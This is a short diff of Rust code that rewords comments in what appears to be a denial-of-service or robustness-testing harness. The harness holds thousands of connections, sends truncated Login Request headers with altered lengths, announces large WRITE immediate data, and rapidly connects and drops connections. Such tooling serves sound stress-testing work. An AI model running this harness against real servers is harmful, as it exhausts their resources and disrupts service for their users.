@@ -65,7 +65,7 @@ fn announce_8k(header: &mut [u8]) {
     header[5..8].copy_from_slice(&[0, 0x20, 0]);
 }
 
-/// Connections that send the first bytes of a Login Request with changed lengths.
+/// Opens connections that send the first bytes of a Login Request with changed lengths.
 fn prefix(attacker: &Attacker, bytes: usize, change: fn(&mut [u8])) -> Result<()> {
     HeldConnections::new(4096).hold(attacker, |number, connection| {
         let mut header = attacker.login(Destination::Shared, number).request(0x87, 0, b"").bytes();
@@ -75,7 +75,7 @@ fn prefix(attacker: &Attacker, bytes: usize, change: fn(&mut [u8])) -> Result<()
     })
 }
 
-/// Sessions that send the header of a WRITE that announces this much immediate data.
+/// Opens sessions that send the header of a WRITE that announces this much immediate data.
 fn in_session(attacker: &Attacker, bytes: u32) -> Result<()> {
     let mut sessions = Vec::new();
     for number in 0.. {
@@ -104,7 +104,7 @@ fn in_session(attacker: &Attacker, bytes: u32) -> Result<()> {
 fn connect_and_reset(attacker: &Attacker) -> Result<()> {
     attacker.in_threads(2, |thread| {
         for number in (thread..).step_by(2).take_while(|_| !attacker.is_over()) {
-            // A refusal is as good as a connection here.
+            // A refused connection serves this attack as well as an accepted one.
             drop(attacker.connect_from(number % 16));
         }
     });
